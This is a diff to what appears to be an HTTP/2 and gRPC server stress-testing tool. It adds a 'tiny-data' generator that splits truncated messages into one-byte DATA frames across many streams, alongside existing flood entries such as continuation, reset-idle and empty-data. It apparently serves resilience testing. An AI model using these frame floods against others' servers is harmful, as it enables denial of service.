@@ -140,6 +140,20 @@ def goaway():
         yield frame(GOAWAY, 0, 0, bytes(8) + text) * BATCH
 
 
+def tiny_data():
+    """Messages of a digit, a byte in a frame, which end a byte early."""
+    content = message(bytes(784))[:-1]
+    for stream in itertools.count(1, 2):
+        frames = (frame(DATA, 0, stream, content[at : at + 1]) for at in range(len(content)))
+        yield b"".join(
+            (
+                frame(HEADERS, END_HEADERS, stream, call_headers()),
+                *frames,
+                frame(DATA, END_STREAM, stream),
+            )
+        )
+
+
 def again(content, before=b""):
     """`before`, and then the same bytes again and again."""
 
@@ -252,6 +266,7 @@ ATTACKS = {
     "window-settings": window_settings,
     "continuation": continuations,
     "empty-data": again(frame(DATA, 0, 1) * 1000, frame(HEADERS, END_HEADERS, 1, call_headers())),
+    "tiny-data": tiny_data,
     "priority": again(frame(PRIORITY, 0, 1, bytes(5)) * 1000),
     "reset-idle": again(frame(RST_STREAM, 0, 1, bytes(4)) * 1000),
     "update": again(frame(WINDOW_UPDATE, 0, 0, (16).to_bytes(4, "big")) * 1000),
